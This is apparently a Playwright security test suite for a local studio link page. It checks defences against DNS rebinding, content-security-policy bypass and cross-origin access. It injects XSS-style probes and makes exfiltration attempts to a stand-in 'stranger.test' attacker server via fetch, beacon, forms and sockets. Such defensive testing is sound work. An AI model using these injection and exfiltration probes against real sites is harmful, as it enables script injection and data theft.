import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { chromium, expect, test, type Browser, type Page } from '@playwright/test'
import { findBrowser } from '../../scripts/set-up/find-browser.mjs'
import { BROWSER_ARGS } from '../../scripts/test/browser-args.mjs'
import type { LinkPage } from '../fixtures/link-page/page.ts'
import { buildLinkPage, serveLinkPage, type LinkServer } from '../fixtures/loopback-server.ts'

declare const linkPage: LinkPage

let server: LinkServer
let folder: string
let browser: Browser
let attacker: ReturnType<typeof createServer>
let attackerPort: number
/** What a foreign server saw of the studio. */
let leaks: string[]

test.beforeAll(async ({}, info) => {
  test.skip(info.project.name === 'electron', 'The loopback host has no Electron in it.')
  folder = await buildLinkPage(info.outputPath('link-page'))
  browser = await chromium.launch({
    executablePath: findBrowser(),
    // Foreign names that resolve to this machine, as after DNS rebinding.
    args: ['--host-resolver-rules=MAP *.test 127.0.0.1', ...BROWSER_ARGS],
  })
  attacker = createServer((request, response) => {
    if (request.url !== '/' || request.headers.cookie !== undefined)
      leaks.push(`${request.url} ${request.headers.cookie ?? ''}`)
    if (request.url === '/redirect')
      return void response.writeHead(302, { Location: `${server.origin}/media/redirected` }).end()
    response.setHeader('Content-Type', 'text/html').end('<!doctype html><title>stranger</title>')
  })
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve))
  attackerPort = (attacker.address() as AddressInfo).port
})
test.afterAll(async () => {
  await browser?.close()
  attacker?.closeAllConnections()
  attacker?.close()
})
test.beforeEach(async () => {
  leaks = []
  server = await serveLinkPage(folder)
})
test.afterEach(() => server.close())

const about = (page: Page): Promise<string> =>
  page.evaluate(async () => (await linkPage.studio.client.app.about()).version)

test.describe('window', () => {
  test('connects with its URL, which then no longer contains the token, and again after a reload', async () => {
    const page = await browser.newPage()
    await page.goto(server.url)

    const first = await about(page)
    const address = page.url()
    await page.reload()
    const second = await about(page)

    expect([first, second]).toEqual(['1.2.3', '1.2.3'])
    expect(address).toBe(`${server.origin}/`)
    expect(await page.evaluate(() => document.cookie)).toBe('')
    expect(await page.evaluate(() => linkPage.violations)).toEqual([])
    await page.context().close()
  })

  test('is rejected with a message if its URL is from an earlier run', async () => {
    const page = await browser.newPage()
    await page.goto(`${server.origin}/#token=${'x'.repeat(43)}`)

    await expect
      .poll(() => page.evaluate(() => linkPage.refusal()))
      .toBe('This URL is no longer valid. Open Overvoice again.')
    expect(server.reached).toEqual([])
    await page.context().close()
  })

  test('detects that the studio is gone, fails calls, and recognizes a new run', async () => {
    const page = await browser.newPage()
    await page.goto(server.url)
    await about(page)

    await server.close()
    await expect.poll(() => page.evaluate(() => linkPage.studio.link.state().kind)).toBe('lost')
    server = await serveLinkPage(folder, server.port)

    await expect.poll(() => page.evaluate(() => linkPage.studio.link.state().kind), { timeout: 15_000 }).toBe('refused')
    const reason = await page.evaluate(() =>
      linkPage.studio.client.app.about().catch((error: unknown) => linkPage.formatReason(linkPage.getFailure(error))),
    )
    expect(reason).toBe('This window belongs to an earlier session. Open Overvoice again.')
    await page.context().close()
  })
})

test('the page’s policy blocks everything external', async () => {
  const page = await browser.newPage()
  await page.goto(server.url)
  await about(page)

  const outcomes = await page.evaluate(async (stranger) => {
    const seen: Record<string, unknown> = {}
    const attempt = async (name: string, action: () => unknown): Promise<void> => {
      try {
        seen[name] = await action()
      } catch {
        seen[name] = 'blocked'
      }
    }
    const marks = globalThis as { ran?: string[] }
    marks.ran = []
    const add = (html: string): void => document.body.insertAdjacentHTML('beforeend', html)
    const addScript = (fill: (script: HTMLScriptElement) => void): void => {
      const script = document.createElement('script')
      fill(script)
      document.body.append(script)
    }
    const loads = (element: HTMLElement & { src: string }, src: string): Promise<string> =>
      new Promise((resolve) => {
        element.addEventListener('load', () => resolve('loaded'))
        element.addEventListener('error', () => resolve('blocked'))
        element.src = src
        document.body.append(element)
      })
    // The debugger running this may bypass the page's restrictions until it first awaits.
    await new Promise((resolve) => setTimeout(resolve))
    await attempt('eval', () => (Reflect.get(globalThis, 'eval') as (source: string) => unknown)('1'))
    await attempt('function', () => new Function('return 1')() as unknown)
    addScript((script) => (script.textContent = 'ran.push("inline")'))
    addScript((script) => (script.src = 'data:text/javascript,ran.push("data")'))
    addScript((script) => (script.src = URL.createObjectURL(new Blob(['ran.push("blob")']))))
    addScript((script) => (script.src = `${stranger}/script.js`))
    add('<img src="data:image/png;base64,x" onerror="ran.push(\'handler\')">')
    add('<a id="link" href="javascript:ran.push(\'link\')">x</a>')
    document.getElementById('link')?.click()
    add('<div id="styled" style="color: rgb(1, 2, 3)"></div><style>body { --stolen: 1 }</style>')
    add(`<form id="form" action="${stranger}/form" method="post"></form>`)
    ;(document.getElementById('form') as HTMLFormElement).submit()
    add(`<base href="${stranger}/base/">`)
    add(
      `<object data="${stranger}/object"></object><embed src="${stranger}/embed"><link rel="stylesheet" href="${stranger}/style.css">`,
    )
    add(`<link rel="prefetch" href="${stranger}/prefetch"><link rel="manifest" href="${stranger}/manifest">`)
    add(`<video src="${stranger}/video"></video><audio src="${stranger}/audio"></audio>`)
    await attempt('image', () => loads(document.createElement('img'), `${stranger}/image.png`))
    document.body.append(Object.assign(document.createElement('iframe'), { src: `${stranger}/frame` }))
    await attempt('fetch', () => fetch(`${stranger}/fetch`, { mode: 'no-cors' }))
    await attempt(
      'beacon',
      () => new Promise((resolve) => resolve(navigator.sendBeacon(`${stranger}/beacon`, 'x') ? 'sent' : 'blocked')),
    )
    await attempt(
      'socket',
      () =>
        new Promise((resolve) => {
          const socket = new WebSocket(stranger.replace('http', 'ws'))
          socket.onopen = () => resolve('open')
          socket.onerror = () => resolve('blocked')
        }),
    )
    await attempt(
      'events',
      () =>
        new Promise((resolve) => {
          const source = new EventSource(`${stranger}/events`)
          source.onopen = () => resolve('open')
          source.onerror = () => resolve('blocked')
        }),
    )
    await attempt('font', () => new FontFace('x', `url(${stranger}/font.woff2)`).load().then(() => 'loaded'))
    await attempt(
      'worker',
      () =>
        new Promise((resolve) => {
          const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))
          worker.onmessage = () => resolve('ran')
          worker.onerror = () => resolve('blocked')
        }),
    )
    // What the studio itself needs still works.
    const nonce = document.querySelector<HTMLMetaElement>('meta[property="csp-nonce"]')?.content ?? ''
    const own = Object.assign(document.createElement('style'), { textContent: 'body { --own: 1 }', nonce })
    document.head.append(own)
    await attempt('wasm', () =>
      WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => 'compiled'),
    )
    await attempt('media', () => linkPage.fetchMedia('/media/take').then((answer) => answer.text()))
    const style = getComputedStyle(document.body)
    seen.styles = [
      style.getPropertyValue('--own'),
      style.getPropertyValue('--stolen'),
      getComputedStyle(document.getElementById('styled') ?? document.body).color,
    ]
    seen.ran = marks.ran
    seen.base = document.baseURI
    return seen
  }, `http://stranger.test:${attackerPort}`)

  expect(outcomes).toEqual({
    eval: 'blocked',
    function: 'blocked',
    image: 'blocked',
    fetch: 'blocked',
    beacon: expect.any(String),
    socket: 'blocked',
    events: 'blocked',
    font: 'blocked',
    worker: 'blocked',
    wasm: 'compiled',
    media: 'sound',
    styles: ['1', '', 'rgb(0, 0, 0)'],
    ran: [],
    base: `${server.origin}/`,
  })
  expect(leaks).toEqual([])
  await page.context().close()
})

/** Possible origins of a foreign page on this machine. */
const STRANGERS = ['stranger.test', '127.0.0.1', 'localhost']

for (const name of STRANGERS) {
  test(`a page of ${name} reaches nothing while a window is open`, async () => {
    const context = await browser.newContext()
    const own = await context.newPage()
    await own.goto(server.url)
    await about(own)
    const before = server.reached.length
    const page = await context.newPage()
    await page.goto(`http://${name}:${attackerPort}/`)

    const read = await page.evaluate(
      async ({ targets }) => {
        const got: string[] = []
        const attempt = async (what: string, action: () => Promise<unknown>): Promise<void> => {
          const answer = await Promise.race([
            action().catch(() => undefined),
            new Promise((resolve) => setTimeout(resolve, 3_000)),
          ])
          if (answer !== undefined) got.push(`${what}: ${String(answer)}`)
        }
        const element = (tag: 'img' | 'script' | 'audio' | 'iframe' | 'embed', src: string): Promise<unknown> =>
          new Promise((resolve) => {
            const made = document.createElement(tag)
            made.addEventListener('load', () => resolve(tag === 'iframe' || tag === 'embed' ? undefined : 'loaded'))
            made.addEventListener('loadeddata', () => resolve('loaded'))
            made.addEventListener('error', () => resolve(undefined))
            ;(made as HTMLImageElement).src = src
            document.body.append(made)
          })
        for (const target of targets) {
          await attempt('get', () =>
            fetch(`${target}/media/get`, { credentials: 'include' }).then((answer) => answer.text()),
          )
          await attempt('page', () => fetch(`${target}/`, { credentials: 'include' }).then((answer) => answer.text()))
          await attempt('opaque', () =>
            fetch(`${target}/media/opaque`, { mode: 'no-cors', credentials: 'include' }).then((answer) =>
              answer.type === 'opaque' ? undefined : answer.type,
            ),
          )
          const json = {
            method: 'POST',
            credentials: 'include',
            headers: { 'Content-Type': 'application/json' },
            body: '{"token":"x"}',
          } as const
          await attempt('json', () => fetch(`${target}/session`, json).then((answer) => answer.status))
          await attempt('text', () =>
            fetch(`${target}/session`, { ...json, mode: 'no-cors', headers: { 'Content-Type': 'text/plain' } }).then(
              (answer) => (answer.type === 'opaque' ? undefined : answer.type),
            ),
          )
          await attempt('image', () => element('img', `${target}/media/image`))
          await attempt('script', () => element('script', `${target}/media/script`))
          await attempt('sound', () => element('audio', `${target}/media/sound`))
          await attempt('frame', () => element('iframe', `${target}/media/frame`))
          await attempt('embed', () => element('embed', `${target}/media/embed`))
          await attempt(
            'events',
            () =>
              new Promise((resolve) => {
                const source = new EventSource(`${target}/media/events`, { withCredentials: true })
                source.onopen = () => resolve('open')
                source.onerror = () => {
                  source.close()
                  resolve(undefined)
                }
              }),
          )
          await attempt(
            'socket',
            () =>
              new Promise((resolve) => {
                const socket = new WebSocket(`${target.replace('http', 'ws')}/rpc`, 'overvoice.v1')
                socket.onopen = () => resolve('open')
                socket.onerror = () => resolve(undefined)
              }),
          )
          navigator.sendBeacon(`${target}/media/beacon`, 'x')
          const form = Object.assign(document.createElement('form'), {
            action: `${target}/session`,
            method: 'post',
            enctype: 'text/plain',
            target: 'sink',
          })
          const sink = Object.assign(document.createElement('iframe'), { name: 'sink' })
          document.body.append(sink, form)
          form.submit()
          await attempt('redirect', () =>
            fetch('/redirect', { credentials: 'include' }).then((answer) => answer.text()),
          )
        }
        return got
      },
      {
        targets: [
          server.origin,
          `http://localhost:${server.port}`,
          `http://stranger.test:${server.port}`,
          `http://0.0.0.0:${server.port}`,
          `http://[::1]:${server.port}`,
        ],
      },
    )

    expect(read).toEqual([])
    expect(server.reached.slice(before)).toEqual([])
    await context.close()
  })
}

test('a page rebound to the studio’s own port gets nothing', async () => {
  const page = await browser.newPage()

  const answer = await page.goto(`http://stranger.test:${server.port}/`)

  expect([answer?.status(), await answer?.text()]).toEqual([403, 'Refused.\n'])
  expect(server.reached).toEqual([])
  await page.context().close()
})
